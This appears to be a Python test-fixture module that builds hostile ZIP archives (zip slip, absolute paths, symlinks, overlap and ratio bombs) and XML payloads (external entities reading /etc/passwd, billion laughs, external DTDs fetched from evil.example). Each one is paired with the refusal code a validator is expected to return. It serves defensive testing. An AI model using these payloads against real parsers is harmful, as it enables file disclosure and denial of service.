"""Containers as attackers make them, and honest ones, all made here."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pack(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(*lines: str, extra: dict[str, bytes] | None = None) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)
    page = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return pack({"[Content_Types].xml": TYPES, "word/document.xml": page.encode(), **(extra or {})})


def xlsx(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _named(name: str) -> bytes:
    """A member whose name zipfile itself would not write so."""
    placeholder = "x" * len(name.encode())
    return pack({placeholder: b"1"}).replace(placeholder.encode(), name.encode())


def _info(**changes: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("a")
        for name, value in changes.items():
            setattr(info, name, value)
        archive.writestr(info, b"/etc/passwd")
    return out.getvalue()


def _flag(data: bytes, offset: int, value: int) -> bytes:
    """The same two bytes changed in every local (PK34) and central (PK12) header."""
    out = bytearray(data)
    for magic, at in ((b"PK\x03\x04", offset), (b"PK\x01\x02", offset + 2)):
        place = out.find(magic)
        while place >= 0:
            out[place + at : place + at + 2] = struct.pack("<H", value)
            place = out.find(magic, place + 4)
    return bytes(out)


def _overlapping() -> bytes:
    """Two entries of the directory that share one member (as in overlap bombs)."""
    data = pack({"aa": b"x" * 1000, "bb": b"y" * 1000})
    second = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)
    out = bytearray(data)
    out[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(out).replace(b"bb", b"aa", 0)


def _nested(depth: int) -> bytes:
    data = pack({"a.txt": b"1"})
    for _ in range(depth):
        data = pack({"inner.zip": data}, zipfile.ZIP_STORED)
    return data


def _twice(first: str, second: str) -> bytes:
    return pack({first: b"1", second: b"2"})


def _cut() -> bytes:
    return pack({"a": b"x" * 5000})[:-30]


def _lying() -> bytes:
    """The directory announces a smaller size than what comes out."""
    data = bytearray(pack({"a": b"x" * 5000}))
    central = data.find(b"PK\x01\x02")
    data[22:26] = data[central + 24 : central + 28] = struct.pack("<I", 10)
    return bytes(data)


ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip slip": (lambda: _named("../../etc/passwd"), "zip.name"),
    "absolute path": (lambda: _named("/etc/passwd"), "zip.name"),
    "backslashes": (lambda: _named("..\\..\\x"), "zip.name"),
    "drive letter": (lambda: _named("C:/x"), "zip.name"),
    "control sign in a name": (lambda: _named("a\x01b"), "zip.name"),
    "same name": (lambda: _twice("a.txt", "A.TXT"), "zip.twice"),
    "same name, other code points": (lambda: _twice("\u00e9", "e\u0301"), "zip.twice"),
    "link": (lambda: _info(external_attr=0o120777 << 16, create_system=3), "zip.link"),
    "encrypted": (lambda: _flag(pack({"a": b"1"}), 6, 1), "zip.encrypted"),
    "unknown compression": (lambda: _flag(pack({"a": b"1"}), 8, 98), "zip.method"),
    "overlap": (_overlapping, "zip.overlap"),
    "something before it": (lambda: b"PK\x03\x04" + pack({"a": b"1"}), "zip.overlap"),
    "ratio": (lambda: pack({"a": bytes(40 << 20)}), "zip.ratio"),
    "too much in all": (lambda: pack({f"{n}": bytes(900_000) for n in range(300)}), "zip.size"),
    "too many": (lambda: pack({f"{n}": b"" for n in range(2001)}), "zip.members"),
    "nested": (lambda: _nested(3), "zip.depth"),
    "cut off": (_cut, "zip.broken"),
    "lying size": (_lying, "zip.broken"),
    "nothing but a magic": (lambda: b"PK\x03\x04", "zip.broken"),
}
"""What it is, and the code of the refusal."""

_LAUGHS = '<!ENTITY l0 "lol">' + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
)
XML = {
    "external entity": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "billion laughs": f"<!DOCTYPE a [{_LAUGHS}]><a>&l9;</a>".encode(),
    "quadratic": b'<!DOCTYPE a [<!ENTITY x "' + b"x" * 50_000 + b'">]><a>' + b"&x;" * 500 + b"</a>",
    "external type": b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
    "parameter entity": b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><a/>',
}
